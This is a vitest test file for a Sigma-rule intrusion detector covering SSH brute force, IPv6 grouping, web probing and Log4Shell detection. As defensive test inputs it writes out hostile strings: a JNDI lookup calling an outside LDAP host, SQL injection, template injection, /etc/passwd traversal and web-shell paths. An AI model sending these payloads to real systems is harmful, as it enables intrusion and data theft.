import { globSync, readFileSync } from "node:fs";
import type { Detector } from "#contracts/detector.ts";
import type { LogEvent } from "#core/event.ts";
import { scoreOf, type Signal } from "#core/signal.ts";
import { loadRules, type RuleSet } from "#sigma/load.ts";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { explainEvent } from "./explain-event.ts";
import { sigmaRules } from "./sigma-rules.ts";

const catalogue = loadRules(globSync("rules/*/*.yml").map((path) => ({ path, text: readFileSync(path, "utf8") })));
const options = { maxKeys: 1_000, lateTolerance: 0 };
const start = Date.UTC(2026, 10, 14);

type Line = LogEvent & { readonly line?: number };

function failure(second: number, address: string, user = "root", count?: number): Line {
  return {
    "@timestamp": start + second * 1_000,
    "event.category": "authentication",
    "event.action": "ssh_login",
    "event.outcome": "failure",
    "haechi.ssh.method": "password",
    "source.ip": address,
    "user.name": user,
    "process.name": "sshd",
    "haechi.count": count,
  };
}

function success(second: number, address: string, user = "minji"): Line {
  return { ...failure(second, address, user), "event.outcome": "success" };
}

function request(second: number, address: string, target: string, more: Partial<LogEvent> = {}): Line {
  const [path, query] = target.split("?");
  return {
    "@timestamp": start + second * 1_000,
    "event.category": "web",
    "event.action": "http_request",
    "event.outcome": "success",
    "http.request.method": "GET",
    "http.response.status_code": 200,
    "source.ip": address,
    "url.path": path,
    "url.query": query,
    "url.original": target,
    ...more,
  };
}

function run(detector: Detector, lines: readonly Line[], from = 0): Signal[] {
  const signals: Signal[] = [];
  lines.forEach((event, index) => {
    const line = from + index + 1;
    signals.push(...detector.observe(event, { source: "auth.log", text: `line ${line} of ${event["source.ip"]}`, line, offset: line * 100, writtenBy: start }));
  });
  return signals;
}

function signalsOf(lines: readonly Line[], rules: RuleSet = catalogue): Signal[] {
  const detector = sigmaRules(rules, options);
  return [...run(detector, lines), ...detector.finish()];
}

const of = (signals: readonly Signal[], rule: string): Signal[] => signals.filter((signal) => signal.rule === rule);

describe("sigma-rules", () => {
  it("has a catalogue without faults", () => {
    expect(catalogue.faults).toEqual([]);
  });

  it("tells a brute force with all five lines as evidence, and a score that its reasons sum to", () => {
    const [signal] = of(signalsOf([0, 10, 20, 30, 40].map((second) => failure(second, "45.9.20.31"))), "ssh-brute-force");
    expect(signal).toMatchObject({
      detector: "sigma-rules",
      level: "high",
      count: 5,
      first: start,
      last: start + 40_000,
      actor: { kind: "ip", id: "45.9.20.31" },
      users: ["root"],
      actionable: true,
      title: "SSH brute force",
    });
    expect(signal?.evidence.map(({ line, message }) => [line, message])).toEqual([1, 2, 3, 4, 5].map((line) => [line, `line ${line} of 45.9.20.31`]));
    expect(signal?.id).toMatch(/^[0-9a-f]{16}$/);
    expect(signal?.score).toBe(scoreOf(signal?.why ?? []));
  });

  it("titles in the operator's language", () => {
    const detector = sigmaRules(catalogue, { ...options, language: "ko" });
    const [signal] = of(run(detector, [failure(0, "45.9.20.31", "root", 5)]), "ssh-brute-force");
    expect(signal?.title).toBe("SSH 무차별 대입 공격");
  });

  it("reports an episode again when it has doubled, under the same id", () => {
    const signals = of(signalsOf(Array.from({ length: 45 }, (_, i) => failure(i, "45.9.20.31"))), "ssh-brute-force");
    expect(signals.map(({ count }) => count)).toEqual([5, 10, 20, 40, 45]);
    expect(new Set(signals.map(({ id }) => id)).size).toBe(1);
  });

  it("counts lines that stand for several", () => {
    expect(of(signalsOf([failure(0, "45.9.20.31"), failure(1, "45.9.20.31", "root", 4)]), "ssh-brute-force")[0]?.count).toBe(5);
  });

  it("names the user where many addresses guess one, and asks for no ban", () => {
    const [signal] = of(signalsOf(Array.from({ length: 11 }, (_, i) => failure(i * 100, `45.9.${i}.31`, "minji"))), "ssh-distributed-guessing");
    expect(signal).toMatchObject({ actor: { kind: "user", id: "minji" }, actionable: false, count: 10 });
    expect(signal?.evidence.length).toBeGreaterThanOrEqual(5);
  });

  it("finds a success after a brute force, with the lines of both", () => {
    const [signal] = of(
      signalsOf([...[0, 3, 6, 9, 12].map((second) => failure(second, "103.77.4.9")), success(20, "103.77.4.9", "root")]),
      "ssh-success-after-failures",
    );
    expect(signal).toMatchObject({ level: "critical", actor: { kind: "ip", id: "103.77.4.9" }, first: start, last: start + 20_000, count: 6 });
    expect(signal?.evidence.map(({ line }) => line)).toEqual([1, 2, 3, 4, 5, 6]);
  });

  it("asks for no ban of an office whose people mistype and sign in, but of a guesser with one account", () => {
    const people = ["minji", "jiho", "sora", "yuna", "hana", "dohyun"];
    const office = people.flatMap((name, i) => [failure(i * 8, "103.77.4.9", name), success(i * 8 + 3, "103.77.4.9", name)]);
    const signals = of(signalsOf(office), "ssh-brute-force");
    expect(signals.map(({ level, actionable }) => [level, actionable])).toEqual([
      ["medium", false],
      ["medium", false],
    ]);
    expect(signals[0]?.why.at(-1)).toMatchObject({ feature: "signed_in_users", value: 4 });
    expect(signals[0]?.score).toBe(scoreOf(signals[0]?.why ?? []));
    const guesser = [success(0, "45.9.20.31"), ...people.map((name, i) => failure(5 + i, "45.9.20.31", name))];
    expect(of(signalsOf(guesser), "ssh-brute-force").every(({ actionable }) => actionable)).toBe(true);
  });

  describe("IPv6", () => {
    it("finds an attacker who takes a new address of his /64 for each try, once, as a network", () => {
      const signals = of(signalsOf(Array.from({ length: 9 }, (_, i) => failure(i * 5, `2a03:4000:6:d06::${(i + 1).toString(16)}`))), "ssh-brute-force");
      expect(new Set(signals.map(({ actor }) => `${actor.kind} ${actor.id}`))).toEqual(new Set(["network 2a03:4000:6:d06::/64"]));
      expect(new Set(signals.map(({ id }) => id)).size).toBe(1);
      expect(signals.at(-1)?.count).toBe(9);
      expect(signals[0]?.evidence).toHaveLength(5);
    });

    it("tells one address as that address and not again as its network", () => {
      const signals = of(
        signalsOf([...Array.from({ length: 9 }, (_, i) => failure(i * 5, "2a03:4000:6:d06::1")), failure(50, "2a03:4000:6:d06::2", "minji")]),
        "ssh-brute-force",
      );
      expect(new Set(signals.map(({ actor }) => `${actor.kind} ${actor.id}`))).toEqual(new Set(["ip 2a03:4000:6:d06::1"]));
    });

    it("does not add up different networks", () => {
      expect(of(signalsOf(Array.from({ length: 9 }, (_, i) => failure(i, `2a03:4000:6:${i + 1}::1`))), "ssh-brute-force")).toEqual([]);
    });
  });

  it("tells one harmless-looking hit but asks for no ban; three different ones are actionable", () => {
    const one = signalsOf([request(0, "185.220.101.4", "/.env", { "http.response.status_code": 404 })]);
    expect(one.map(({ rule, actionable }) => [rule, actionable])).toEqual([["web-sensitive-file", false]]);
    const three = signalsOf(
      ["/.env", "/.git/config", "/backup.sql"].map((path, i) => request(i * 60, "185.220.101.4", path, { "http.response.status_code": 404 })),
    );
    expect(of(three, "web-sensitive-probing")[0]).toMatchObject({ actionable: true, paths: ["/.env", "/.git/config", "/backup.sql"] });
  });

  it("acts on no person who pastes SQL into a search box", () => {
    const signals = signalsOf(
      ["select * from", "select * from users", "union of tables", "drop table users"].map((query, i) =>
        request(i, "45.9.20.31", `/search?q=${encodeURIComponent(query)}`, { "haechi.url.decoded": `/search?q=${query}` }),
      ),
    );
    expect(signals.filter(({ actionable }) => actionable)).toEqual([]);
  });

  it("accumulates single hits of one actor into one episode", () => {
    const signals = signalsOf(Array.from({ length: 10 }, (_, i) => request(i * 300, "103.77.4.9", "/", { "user_agent.original": "sqlmap/1.8" })));
    expect(of(signals, "web-attack-tool").map(({ count }) => count)).toEqual([1, 2, 4, 8, 10]);
    expect(new Set(signals.map(({ id }) => id)).size).toBe(1);
  });

  it("explains which rules matched a line and why", () => {
    const [match] = explainEvent(catalogue, request(0, "103.77.4.9", "/?x=${jndi:ldap://45.9.20.31/a}"), "ko");
    expect(match).toMatchObject({ rule: "web-log4shell", title: "Log4Shell 공격", level: "high", counts: [] });
    expect(match?.why.some(({ field, pattern }) => field === "url.original" && pattern.includes("${jndi:"))).toBe(true);
    expect(explainEvent(catalogue, failure(0, "103.77.4.9"), "en")[0]).toMatchObject({
      rule: "ssh-failed-login",
      counts: expect.arrayContaining(["ssh-brute-force"]),
    });
  });

  it("refuses the state of other rules", () => {
    const state = sigmaRules(catalogue, options).snapshot();
    const fewer = { ...catalogue, correlations: catalogue.correlations.slice(1) };
    expect(() => sigmaRules(fewer, options).restore(state)).toThrow(RangeError);
    expect(() => sigmaRules(catalogue, options).restore({ version: 0 })).toThrow(RangeError);
  });

  const address = fc.constantFrom("45.9.20.31", "103.77.4.9", "2a03:4000:6:d06::1", "2a03:4000:6:d06::2", "2a03:4000:6:d06::3", "185.220.101.4");
  const user = fc.constantFrom("root", "minji", "admin", "oracle", "test", "git", "www-data");
  const target = fc.constantFrom(
    "/",
    "/.env",
    "/.git/config",
    "/backup.sql",
    "/?id=1' or 1=1--",
    "/?q={{7*7}}",
    "/login",
    "/a.php?cmd=id",
    "/../../etc/passwd",
    "/shell.php",
    "/wp-login.php",
  );
  const line = fc.oneof(
    fc.tuple(address, user).map(
      ([ip, name]) =>
        (second: number) =>
          failure(second, ip, name),
    ),
    fc.tuple(address, user).map(
      ([ip, name]) =>
        (second: number) =>
          success(second, ip, name),
    ),
    fc.tuple(address, user).map(([ip, name]) => (second: number): Line => ({ ...failure(second, ip, name), "event.action": "ssh_invalid_user" })),
    fc.tuple(address, target, fc.constantFrom(200, 404, 401, 499), fc.constantFrom("GET", "POST")).map(
      ([ip, path, status, method]) =>
        (second: number): Line =>
          request(second, ip, path, {
            "http.response.status_code": status,
            "http.request.method": method,
            "event.outcome": status < 400 ? "success" : "failure",
          }),
    ),
  );
  const stream = fc
    .array(fc.tuple(line, fc.oneof({ weight: 8, arbitrary: fc.integer({ min: 0, max: 20 }) }, { weight: 1, arbitrary: fc.constantFrom(700, -3, 5_000) })), {
      maxLength: 150,
    })
    .map((steps) => {
      let second = 0;
      return steps.map(([make, step]) => make((second = Math.max(0, second + step))));
    });

  it("goes on after a restart as if nothing had happened, wherever it stops", () => {
    fc.assert(
      fc.property(stream, fc.nat(), fc.constantFrom(0, 5_000), (lines, cut, lateTolerance) => {
        const at = lines.length === 0 ? 0 : cut % lines.length;
        const whole = sigmaRules(catalogue, { ...options, lateTolerance });
        const expected = [...run(whole, lines), ...whole.finish()];
        const before = sigmaRules(catalogue, { ...options, lateTolerance });
        const first = run(before, lines.slice(0, at));
        const after = sigmaRules(catalogue, { ...options, lateTolerance });
        after.restore(structuredClone(before.snapshot()));
        expect([...first, ...run(after, lines.slice(at), at), ...after.finish()]).toEqual(expected);
      }),
      { numRuns: 60 },
    );
  });

  it("gives the same signals without dispatch", () => {
    // A rule without narrowing is tried on every event.
    const plain: RuleSet = { ...catalogue, rules: catalogue.rules.map((rule) => ({ ...rule, narrowing: undefined })) };
    fc.assert(
      fc.property(stream, (lines) => {
        const sort = (signals: Signal[]): string[] => signals.map((signal) => JSON.stringify(signal)).toSorted();
        expect(sort(signalsOf(lines, plain))).toEqual(sort(signalsOf(lines)));
      }),
      { numRuns: 40 },
    );
  });

  it("stays bounded and throws nothing, whatever the events", () => {
    const detector = sigmaRules(catalogue, { maxKeys: 50, lateTolerance: 0 });
    fc.assert(
      fc.property(
        fc.dictionary(fc.constantFrom("@timestamp", "event.action", "source.ip", "user.name", "url.path", "constructor", "event.outcome"), fc.anything()),
        (event) => {
          detector.observe(event as unknown as LogEvent, { source: "x", text: "x", line: 1, offset: 0, writtenBy: 0 });
        },
      ),
    );
    for (let i = 0; i < 3_000; i++) run(detector, [failure(i, `45.${i & 255}.${i >> 8}.7`, `user${i}`, 5)]);
    expect(detector.evictions).toBeGreaterThan(1_000);
    expect(JSON.stringify(structuredClone(detector.snapshot())).length).toBeLessThan(2_000_000);
  });
});
